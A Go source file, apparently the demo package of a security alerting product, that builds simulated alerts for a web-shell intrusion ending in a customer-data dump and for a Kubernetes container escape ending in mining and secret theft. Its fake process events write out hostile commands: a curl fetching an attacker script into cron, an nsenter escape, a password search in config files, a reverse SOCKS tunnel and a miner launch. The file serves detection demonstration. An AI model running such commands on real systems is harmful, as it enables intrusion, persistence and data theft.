package demo

import (
	"time"

	"github.com/clew-sec/clew/alert"
)

// This file holds the attacks on servers and containers.

var (
	shellScan    = rule{network, low, "Reconnaissance", "T1595.002", "Web scanner looks for weak points", "{address} asked a public web server for hundreds of paths of well-known weak applications.", doNoise}
	shellExploit = rule{network, high, "InitialAccess", "T1190", "Request matches an upload exploit", "A request from {address} matches an exploit for the upload form of the customer portal. The server answered with success.", doServer}
	shellFile    = rule{host, medium, "Persistence", "T1505.003", "New script in the folder of a web site", "On {device} the web server itself wrote a new script file into a folder that visitors can call.", doServer}
	shellSpawn   = rule{endpoint, high, "Persistence", "T1505.003 T1059.003", "Web server process started a command shell", "On {device} the web server's worker process started a command shell. Web applications do not do that; a web shell does.", doServer}
	shellCloud   = rule{servers, high, "Persistence", "T1505.003", "Web shell suspected on a virtual machine", "Requests to one script on {device} carry commands and bring back their output.", doServer}
	shellWho     = rule{endpoint, low, "Discovery", "T1033 T1016 T1049", "Commands that explore a server", "The command shell on {device} asked for the user, the network settings and open connections.", doServer}
	shellPriv    = rule{endpoint, high, "PrivilegeEscalation", "T1134.001", "Service account raised to system rights", "A small program on {device} abused the right to impersonate and now runs with system rights.", doServer}
	shellSecret  = rule{endpoint, medium, "CredentialAccess", "T1552.001", "Passwords read from configuration files", "A search for passwords in the configuration files of the web site on {device} was followed by reading the database settings.", "Replace the database password now."}
	shellTunnel  = rule{endpoint, high, "CommandAndControl", "T1572 T1090", "Tunnel to an outside address", "A tunnelling program on {device} opens the inner network to an outside address.", doServer}
	shellTunnelN = rule{network, high, "CommandAndControl", "T1572", "Long-lived encrypted tunnel to a rare address", "{address} keeps a single connection open and moves data in both directions.", doServer}
	shellHop     = rule{identity, medium, "LateralMovement", "T1021", "Service account signs in to a server for the first time", "{user} signed in to {device}, which the account has never used.", doAccount}
	shellSQL     = rule{databases, high, "LateralMovement", "T1210", "Database sign-in from an unusual application", "{user} signed in to the database on {device} with a program that was not seen before.", "Compare with the planned changes; if unknown, close the sessions and replace the password."}
	shellXP      = rule{endpoint, high, "Execution", "T1505.001 T1059.003", "Database server started a command shell", "On {device} the database process started a command shell.", doServer}
	shellDump    = rule{databases, high, "Collection", "T1213.006", "Unusually large read from a customer table", "{user} read 1.8 million rows of the customer table. The usual number is below one thousand.", doData}
	shellOut     = rule{network, high, "Exfiltration", "T1048.002", "Large upload from a server to a rare address", "{address} sent 6.2 GB to an address that no other server talks to.", doData}
	shellOutSIEM = rule{sentinel, high, "Exfiltration", "T1048", "Server sends more data out than in the month before", "{device} sent out more data in one hour than in the whole month before.", doData}
)

// webShell: exploit on the portal server, shell, hop to the database, data out.
func webShell(s *script) {
	web, sql, in, out := s.byRole["web"], s.byRole["sql"], s.stranger(), s.stranger()
	acct := s.service("svc-web")
	for range s.d.count(3, 5) {
		s.raise(shellScan, odd(ipEv(in, attacker, source)), ipEv(web.Address, destination), flow(in, web.Address, 443))
		s.later(2*time.Minute, 10*time.Minute)
	}
	s.raise(shellExploit, bad(ipEv(in, attacker, source)), ipEv(web.Address, destination), urlEv("https://portal.larkmoor.example/upload.aspx", attacked), flow(in, web.Address, 443))
	page := newFile(s.d, `C:\inetpub\portal\images\thumbs.aspx`)
	s.later(time.Minute, 3*time.Minute)
	s.raise(shellFile, s.dev(web, attacked), bad(page.ev(web, created)))
	s.later(5*time.Minute, 30*time.Minute)
	w3 := s.spawn(nil, web, acct, `C:\Windows\System32\inetsrv\w3wp.exe`, `w3wp.exe -ap "Portal"`)
	cmd := s.spawn(w3, web, acct, `C:\Windows\System32\cmd.exe`, `cmd.exe /c whoami & ipconfig /all`)
	first := s.raise(shellSpawn, s.dev(web, attacked), s.usr(acct, compromised), bad(s.ran(cmd)), bad(page.ev(web)), odd(ipEv(in, attacker)))
	s.raise(shellCloud, s.dev(web, attacked), bad(page.ev(web)), bad(ipEv(in, attacker)))
	s.later(time.Minute, 6*time.Minute)
	who := s.spawn(cmd, web, acct, `C:\Windows\System32\netstat.exe`, "netstat -ano")
	s.raise(shellWho, s.dev(web, attacked), s.usr(acct, compromised), odd(s.ran(who)))
	potato := newFile(s.d, `C:\Windows\Temp\sp.exe`)
	up := s.start(cmd, web, acct, potato, `C:\Windows\Temp\sp.exe -i -c cmd`)
	s.later(5*time.Minute, 20*time.Minute)
	s.raise(shellPriv, s.dev(web, attacked), s.usr(acct, compromised), bad(s.ran(up)), bad(potato.ev(web, created)))
	find := s.spawn(up, web, acct, `C:\Windows\System32\findstr.exe`, `findstr /s /i password C:\inetpub\*.config`)
	s.raise(shellSecret, s.dev(web, attacked), odd(s.ran(find)))
	s.update(first, 25*time.Minute, bad(potato.ev(web)))
	tun := s.start(up, web, acct, newFile(s.d, `C:\Windows\Temp\rt.exe`), `rt.exe client `+out+`:443 R:socks`)
	s.later(10*time.Minute, 30*time.Minute)
	s.raise(shellTunnel, s.dev(web, attacked), bad(s.ran(tun)), bad(ipEv(out, c2)))
	s.raise(shellTunnelN, ipEv(web.Address, source), bad(ipEv(out, c2, destination)), flow(web.Address, out, 443))
	shellDatabase(s, web, sql, out)
}

func shellDatabase(s *script, web, sql *Device, out string) {
	dba := s.service("svc-sql")
	s.later(30*time.Minute, 2*time.Hour)
	s.raise(shellHop, s.usr(dba, compromised), s.dev(sql, attacked, destination), s.dev(web, source))
	s.raise(shellSQL, s.usr(dba, compromised), s.dev(sql, attacked, destination), ipEv(web.Address, source))
	s.later(5*time.Minute, 20*time.Minute)
	db := s.spawn(nil, sql, dba, `C:\Program Files\SQL\sqlservr.exe`, "sqlservr.exe -sMAIN")
	cmd := s.spawn(db, sql, dba, `C:\Windows\System32\cmd.exe`, `cmd.exe /c bcp orders.dbo.customers out C:\Windows\Temp\c.dat -T`)
	dat := newFile(s.d, `C:\Windows\Temp\c.dat`)
	s.raise(shellXP, s.dev(sql, attacked), s.usr(dba, compromised), bad(s.ran(cmd)), odd(dat.ev(sql, created)))
	s.raise(shellDump, s.usr(dba, compromised), s.dev(sql, attacked), cloudEv(s.Company, s.cloud("lm-orders-sql"), attacked))
	s.later(20*time.Minute, time.Hour)
	s.raise(shellOut, ipEv(web.Address, source), bad(ipEv(out, destination)), flow(web.Address, out, 443))
	s.raise(shellOutSIEM, s.dev(web, source), bad(ipEv(out, destination)))
}

var (
	podProbe  = rule{containers, medium, "InitialAccess", "T1190", "Exposed service of the cluster was attacked", "{address} sent template-injection requests to a service that the cluster shows to the internet.", doCluster}
	podShell  = rule{containers, high, "Execution", "T1059.004 T1609", "Shell started inside a container", "A shell that talks to the network was started in a container that only serves web pages.", doCluster}
	podToken  = rule{containers, medium, "CredentialAccess", "T1528 T1552.007", "Token of a service account read inside a container", "A process in the container read the token with which it can talk to the cluster.", doCluster}
	podList   = rule{containers, medium, "Discovery", "T1613", "Service account lists secrets of all namespaces", "The service account of a web application asked for the secrets and pods of every namespace.", doCluster}
	podSecret = rule{containers, high, "CredentialAccess", "T1552.007", "Secrets of another namespace were read", "The service account read secrets of the payments namespace. It has never done so.", doCluster}
	podNew    = rule{containers, high, "PrivilegeEscalation", "T1610 T1611", "Privileged container with the node's disk was started", "A new pod runs with all rights and with the disk of the node mounted.", doCluster}
	podEscape = rule{endpoint, high, "PrivilegeEscalation", "T1611", "Process broke out of its container", "On {device} a process that began in a container now runs in the name spaces of the node.", doCluster}
	podCron   = rule{host, high, "Persistence", "T1053.003", "System schedule changed by a container process", "On {device} a line was added to the system's schedule that fetches and runs a script.", doCluster}
	podKey    = rule{host, medium, "Persistence", "T1098.004", "Key added for the root account", "On {device} a key was added to the list of keys that may sign in as root.", doCluster}
	podMine   = rule{endpoint, medium, "Impact", "T1496", "Mining of cryptocurrency", "A program on {device} uses all processors and talks to a mining pool.", doCluster}
	podPool   = rule{network, medium, "CommandAndControl", "T1071 T1496", "Connection to a mining pool", "{address} speaks the protocol of a mining pool.", doCluster}
	podC2     = rule{network, high, "CommandAndControl", "T1095", "Reverse shell to an outside address", "{address} opened a plain shell session to an outside address.", doCluster}
	podMeta   = rule{resources, high, "CredentialAccess", "T1552.005", "Cloud identity of a node used from outside", "The managed identity of {device} was used from {address}, outside the cloud network.", doCloud}
	podVault  = rule{resources, high, "CredentialAccess", "T1555.006", "Unusual reading of many secrets from a key vault", "An identity that normally reads one secret listed and read all secrets of the vault.", doCloud}
)

// containerEscape: exposed service, shell in the pod, cluster secrets, break
// out to the node, mining and the vault.
func containerEscape(s *script) {
	in, pool := s.stranger(), s.stranger()
	node, node2 := s.byRole["node1"], s.byRole["node3"]
	cluster := &alert.KubernetesClusterEvidence{Name: s.Cluster, Platform: alert.KubernetesPlatformAks, CloudResource: cloudEv(s.Company, s.cloud(s.Cluster))}
	space := func(name string) *alert.KubernetesNamespaceEvidence {
		return &alert.KubernetesNamespaceEvidence{Name: name, Cluster: cluster}
	}
	shop := &alert.KubernetesPodEvidence{Name: "shop-web-6c9d4-" + s.d.hex(5), Namespace: space("shop")}
	box := func(roles ...alert.Role) *alert.ContainerEvidence {
		return odd(as(&alert.ContainerEvidence{Name: "shop-web", ContainerID: digest(shop.Name), Pod: shop, Image: &alert.ContainerImageEvidence{ImageID: "registry.larkmoor.example/shop-web:4.2"}}, roles...))
	}
	who := func() *alert.KubernetesServiceAccountEvidence {
		return as(&alert.KubernetesServiceAccountEvidence{Name: "shop-web", Namespace: space("shop")}, compromised)
	}
	res := func() alert.Evidence { return cloudEv(s.Company, s.cloud(s.Cluster), attacked) }
	for range 2 {
		s.raise(podProbe, odd(ipEv(in, attacker, source)), box(attacked), res())
		s.later(3*time.Minute, 15*time.Minute)
	}
	s.raise(podShell, box(attacked), res(), s.dev(node, contextual), odd(ipEv(in, attacker)))
	s.raise(podC2, ipEv(node.Address, source), bad(ipEv(in, c2, destination)), flow(node.Address, in, 4444))
	s.later(4*time.Minute, 10*time.Minute)
	s.raise(podToken, box(attacked), who(), res())
	s.later(2*time.Minute, 8*time.Minute)
	s.raise(podList, who(), box(contextual), res())
	s.raise(podSecret, who(), as(&alert.KubernetesSecretEvidence{Name: "payments-db", Namespace: space("payments")}, attacked), res())
	s.later(10*time.Minute, 30*time.Minute)
	pod := bad(as(&alert.KubernetesPodEvidence{Name: "node-check-" + s.d.hex(5), Namespace: space("kube-system")}, created))
	s.raise(podNew, pod, who(), box(contextual), res(), s.dev(node, attacked))
	for _, n := range []*Device{node, node2} {
		s.later(2*time.Minute, 6*time.Minute)
		containerNode(s, n, in, pool)
	}
	s.later(20*time.Minute, time.Hour)
	s.raise(podMeta, s.dev(node, compromised), bad(ipEv(in, attacker)), res())
	s.raise(podVault, cloudEv(s.Company, s.cloud("lm-prod-vault"), attacked), bad(ipEv(in, attacker)), res())
}

func containerNode(s *script, n *Device, in, pool string) {
	sh := s.spawn(nil, n, nil, "/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n bash")
	s.raise(podEscape, s.dev(n, attacked), bad(s.ran(sh)))
	fetch := s.spawn(sh, n, nil, "/usr/bin/curl", "curl -s http://"+in+"/k.sh -o /etc/cron.d/k")
	s.raise(podCron, s.dev(n, attacked), bad(s.ran(fetch)), odd(newFile(s.d, "/etc/cron.d/k").ev(n, created)), bad(ipEv(in, attacker)))
	s.raise(podKey, s.dev(n, attacked), odd(newFile(s.d, "/root/.ssh/authorized_keys").ev(n, edited)))
	s.later(2*time.Minute, 5*time.Minute)
	bin := newFile(s.d, "/tmp/.kworkerd")
	mine := s.start(fetch, n, nil, bin, "/tmp/.kworkerd -o "+pool+":3333")
	s.raise(podMine, s.dev(n, attacked), bad(s.ran(mine)), bad(bin.ev(n, created)), odd(ipEv(pool, c2)))
	s.raise(podPool, ipEv(n.Address, source), odd(ipEv(pool, destination)), flow(n.Address, pool, 3333))
}
